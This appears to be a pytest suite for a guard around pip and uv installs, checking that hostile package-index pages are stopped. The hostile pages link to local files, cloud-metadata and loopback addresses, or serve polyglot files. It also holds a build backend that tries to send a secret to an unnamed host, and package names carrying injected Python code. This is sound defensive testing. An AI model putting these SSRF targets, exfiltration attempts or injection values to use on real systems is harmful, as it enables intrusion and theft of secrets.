"""T02, T06, T34, T35: pages that point elsewhere, pages for files, files for pages."""

import pytest

from tests.support.attacks import BOTH, PIP, UV, backend, everything, evil_sdist, fetching, plain, stopped
from tests.support.indexsim import JSON, IndexSimulator, Reply
from tests.support.stage import WARN, YES
from tests.support.wheels import make_sdist, make_wheel, wheel_name


@BOTH
@pytest.mark.parametrize("form", ["json", "href", "base", "redirect"])
def test_a_page_never_leads_to_a_local_file(stage, tool, form):
    # Plain pip builds evil here in the first three forms.
    path = evil_sdist(stage)
    stage.index.add(path.read_bytes(), filename=path.name, url=path.as_uri() if form in ("json", "href") else None)
    stage.index.lies.html = form in ("href", "base")
    if form == "base":
        stage.index.lies.base = path.parent.as_uri() + "/"
        stage.index.entries[path.name].url = path.name
    if form == "redirect":
        stage.index.lies.redirect = {f"/files/{path.name}": path.as_uri()}
    stage.policy(WARN)
    before = everything(stage)
    stopped(stage, stage.run(*tool, "evil"), 1, 69, 77, before=before)


def test_plain_pip_is_led_home(stage):
    path = evil_sdist(stage)
    stage.index.add(path.read_bytes(), filename=path.name, url=path.as_uri())
    assert plain(stage, PIP, "evil") == 0
    assert stage.marker.exists()


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/evil-1.0.tar.gz",
        "http://[fe80::1]/evil-1.0.tar.gz",
        "http://0.0.0.0:{port}/files/evil-1.0.tar.gz",
        "http://[::ffff:169.254.169.254]/evil-1.0.tar.gz",
        "http://2130706433:{port}/files/evil-1.0.tar.gz",
        "http://127.1:{port}/files/evil-1.0.tar.gz",
        "ftp://127.0.0.1/evil-1.0.tar.gz",
        "http://evil@127.0.0.1:1/evil-1.0.tar.gz",
    ],
)
def test_links_to_addresses_nobody_may_ask(stage, url):
    tool = PIP if len(url) % 2 else UV
    body = make_sdist("evil", "1.0", marker=stage.marker)
    stage.index.add(body, filename="evil-1.0.tar.gz", url=url.format(port=stage.index.port))
    stage.policy(WARN)
    before = everything(stage)
    stopped(stage, stage.run(*tool, "evil"), 1, 69, 77, before=before)
    assert [one.path for one in stage.index.requests if one.path.startswith("/files/")] == []


@BOTH
def test_a_build_cannot_ask_hosts_that_no_page_names(stage, tool):
    with IndexSimulator() as other:
        code = (
            "try:\n"
            f"    exec({fetching(other.origin + '/?secret=1')!r})\n"
            "except OSError as error:\n"
            "    open(FOLDER + '/told', 'w').write(str(error))\n"
        )
        stage.sdist("source", "1.0", YES, backend=backend(stage, "source", "1.0", code))
        stage.policy()
        assert stage.run(*tool, "source").code == 0
        assert "403" in (stage.folder / "told").read_text()
        assert other.requests == []


@BOTH
def test_a_page_in_place_of_a_file(stage, tool):
    stage.wheel("evil", "1.0")
    page = b'<!DOCTYPE html><a href="file:///d/evil-1.0.tar.gz">evil-1.0.tar.gz</a>'
    stage.index.lies.at_request = lambda _n, path: (
        Reply(200, {"Content-Type": "text/html"}, page) if path.startswith("/files/") else None
    )
    stage.policy(WARN)
    before = everything(stage)
    stopped(stage, stage.run(*tool, "evil"), 65, before=before)


@pytest.mark.parametrize(("tool", "kind"), [(PIP, "text/html"), (UV, "text/html"), (UV, JSON)])
def test_a_file_in_place_of_a_page(stage, tool, kind):
    page = b'<a href="evil-1.0.tar.gz">evil</a>'
    polyglot = page + make_wheel("evil", "1.0")
    stage.index.lies.at_request = lambda _n, path: (
        Reply(200, {"Content-Type": kind}, polyglot) if path.startswith("/simple/") else None
    )
    stage.policy(WARN)
    before = everything(stage)
    stopped(stage, stage.run(*tool, "evil"), 1, 69, 77, before=before)


@BOTH
def test_a_name_that_is_code(stage, tool):
    # A refusal is no program and no requirement: whatever is asked for, nothing of it runs.
    stage.wheel("evil", "1.0")
    stage.policy()
    before = everything(stage)
    for word in ('__import__("os").system("touch marker")', "evil;import os"):
        stopped(stage, stage.run(*tool, word), 64, before=before)
    assert stage.index.requests == []


@BOTH
def test_approved_bytes_under_another_name(stage, tool):
    raw = make_wheel("good", "1.0")
    stage.wheel("good", "1.0", YES, body=raw)
    stage.index.add(raw, filename=wheel_name("good", "2.0"))
    stage.index.add(raw, filename=wheel_name("evil", "1.0"))
    stage.policy(WARN)
    before = everything(stage)
    stopped(stage, stage.run(*tool, "good==2.0"), 65, before=before)
    stopped(stage, stage.run(*tool, "evil"), 65, before=before)


@BOTH
def test_another_projects_file_on_a_page(stage, tool):
    raw = make_wheel("evil", "1.0")
    entry = stage.index.add(raw, filename=wheel_name("evil", "1.0"))
    entry.project = "good"
    stage.policy(WARN)
    before = everything(stage)
    stopped(stage, stage.run(*tool, "good"), 1, 77, before=before)
